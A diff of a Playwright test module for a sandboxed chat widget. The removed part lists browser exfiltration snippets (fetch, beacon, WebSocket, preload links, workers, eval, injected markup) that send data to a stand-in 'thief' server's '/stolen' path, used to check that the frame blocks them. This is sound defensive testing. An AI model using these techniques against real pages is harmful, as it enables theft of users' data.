@@ -1,13 +1,12 @@
-"""The widget's frames in a real browser: what the page sees, what hostile code inside could do, which host policies they run under."""
+"""The widget's frames in a real browser: what the page sees and may do, and how the widget looks. Hostile code has its own module."""
 
 from __future__ import annotations
 
-from contextlib import ExitStack, suppress
+from contextlib import ExitStack
 from dataclasses import dataclass
 from typing import TYPE_CHECKING, Final
 
 import pytest
-from playwright.sync_api import TimeoutError as PlaywrightTimeout
 from tests.support.widget_shop import NONCE, PREVIEW, Bundles, Shop, node, recommended_policy, serving
 
 if TYPE_CHECKING:
@@ -16,19 +15,16 @@ if TYPE_CHECKING:
     from playwright.sync_api import Browser, BrowserContext, Frame, FrameLocator, Page
 
 READY_WITHIN_MS: Final = 20_000
-IDLE_WITHIN_MS: Final = 5_000
 
 
 @dataclass(frozen=True, slots=True)
 class Town:
-    """A relay's bundles, a shop, and somebody who would like to be sent things."""
+    """A relay's bundles and a shop."""
 
     bundles: Bundles
     shop: Shop
     relay: str
     address: str
-    thief: Bundles
-    thief_address: str
 
 
 @pytest.fixture(scope="module")
@@ -40,13 +36,12 @@ def preview(tmp_path_factory: pytest.TempPathFactory) -> Bundles:
 
 @pytest.fixture
 def town(preview: Bundles) -> Iterator[Town]:
-    bundles, thief = Bundles(preview.folder), Bundles(preview.folder)
+    bundles = Bundles(preview.folder)
     with ExitStack() as open_places:
         relay = open_places.enter_context(serving(bundles.handler))
         shop = Shop(Shop.with_snippet(bundles.snippet(relay)), recommended_policy(relay))
         address = open_places.enter_context(serving(shop.handler))
-        thief_address = open_places.enter_context(serving(thief.handler))
-        yield Town(bundles, shop, relay, address, thief, thief_address)
+        yield Town(bundles, shop, relay, address)
 
 
 @pytest.fixture
@@ -162,94 +157,6 @@ def test_a_page_that_can_keep_nothing_says_so_in_words(context: BrowserContext, 
     alert = page.get_by_role("alert")
     alert.wait_for()
     assert "does not let the page keep encryption keys" in alert.inner_text()
-
-
-ATTACKS: Final = {
-    "fetch": "fetch(URL)",
-    "socket": "new WebSocket(URL.replace('http', 'ws'))",
-    "beacon": "navigator.sendBeacon(URL, 'x')",
-    "image": "new Image().src = URL",
-    "css": "document.body.style.backgroundImage = `url(${URL})`",
-    "font": "new FontFace('x', `url(${URL})`).load()",
-    "form": """{ const form = document.createElement('form'); form.action = URL; document.body.append(form); form.submit() }""",
-    "popup": "window.open(URL)",
-    "top": "window.top.location = URL",
-    "self": "location.href = URL",
-    "anchor": """{ const a = document.createElement('a'); a.href = URL; document.body.append(a); a.click() }""",
-    "refresh": """{ const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = `0;url=${URL}`;
-        document.head.append(meta) }""",
-    "data page": "location.href = `data:text/html,<img src=${URL}>`",
-    "import": "import(URL)",
-    "own script again": "import(document.querySelector('script').src + '?stolen')",
-    "preload": """for (const as of ['script', 'style', 'image', 'fetch']) { const link = document.createElement('link');
-        link.rel = 'preload'; link.as = as; link.href = URL; document.head.append(link) }""",
-    "module preload": """{ const link = document.createElement('link'); link.rel = 'modulepreload'; link.href = URL;
-        link.integrity = document.querySelector('script').integrity; document.head.append(link) }""",
-    "listed preload": """{ const link = document.createElement('link'); link.rel = 'preload'; link.as = 'script'; link.href = URL;
-        link.crossOrigin = 'anonymous'; link.integrity = document.querySelector('script').integrity; document.head.append(link) }""",
-    "prefetch": """{ const link = document.createElement('link'); link.rel = 'prefetch'; link.href = URL; document.head.append(link) }""",
-    "child frame": """{ const frame = document.createElement('iframe'); frame.src = URL; document.body.append(frame) }""",
-    "worker": "new Worker(URL)",
-    "eval": "eval(`fetch('${URL}')`)",
-    "markup": "document.body.innerHTML = `<img src='${URL}'>`",
-}
-
-
-@pytest.mark.parametrize("name", ATTACKS)
-def test_hostile_code_inside_the_frame_carries_nothing_out(context: BrowserContext, town: Town, name: str) -> None:
-    # T12. Run with a host that has no policy of its own: frame, wall and lock must be enough.
-    town.shop.policy = ""
-    page = context.new_page()
-    page.goto(town.address)
-    launcher(page)
-    frame = app_frame(page)
-    before = list(town.bundles.asked)
-    body = ATTACKS[name].replace("URL", "url")
-    frame.evaluate(f"async (url) => {{ try {{ {body} }} catch {{}} }}", f"{town.thief_address}/stolen")
-    # What an attack left hanging must not decide the test: the thief's log does.
-    with suppress(PlaywrightTimeout):
-        page.wait_for_load_state("networkidle", timeout=IDLE_WITHIN_MS)
-    page.evaluate("fetch('/kettle.svg').then((answer) => answer.text())")
-    assert town.thief.asked == []
-    assert town.bundles.asked == before
-    assert page.url.rstrip("/") == town.address
-
-
-def test_the_thief_would_have_noticed(context: BrowserContext, town: Town) -> None:
-    town.shop.policy = ""
-    page = context.new_page()
-    page.goto(town.address)
-    page.evaluate("(url) => fetch(url, {mode: 'no-cors'})", f"{town.thief_address}/stolen")
-    assert town.thief.asked == ["/stolen"]
-
-
-def test_webrtc_is_gone_inside_the_frame(context: BrowserContext, town: Town) -> None:
-    page = context.new_page()
-    page.goto(town.address)
-    launcher(page)
-    names = "['RTCPeerConnection', 'webkitRTCPeerConnection', 'RTCDataChannel'].map((name) => typeof globalThis[name])"
-    assert app_frame(page).evaluate(names) == ["undefined"] * 3
-
-
-def test_the_page_cannot_look_into_the_frame(context: BrowserContext, town: Town) -> None:
-    page = context.new_page()
-    page.goto(town.address)
-    start_chat(page)
-    looks = """() => {
-      const wall = document.querySelector('sotto-chat').shadowRoot.querySelector('iframe')
-      return [() => wall.contentWindow.document, () => wall.contentWindow[0].document, () => wall.contentWindow[0].localStorage]
-        .map((look) => { try { return String(look()) } catch (error) { return error.name } })
-    }"""
-    assert page.evaluate(looks) == ["SecurityError"] * 3
-
-
-def test_storage_and_locks_throw_inside_the_frame(context: BrowserContext, town: Town) -> None:
-    page = context.new_page()
-    page.goto(town.address)
-    launcher(page)
-    tries = """async () => Promise.all([() => localStorage.length, () => indexedDB.open('x').result, () => navigator.locks.query()]
-      .map(async (attempt) => { try { await attempt(); return 'works' } catch { return 'throws' } }))"""
-    assert app_frame(page).evaluate(tries) == ["throws"] * 3
 
 
 def test_a_page_that_says_ready_itself_gets_no_port(context: BrowserContext, town: Town) -> None:
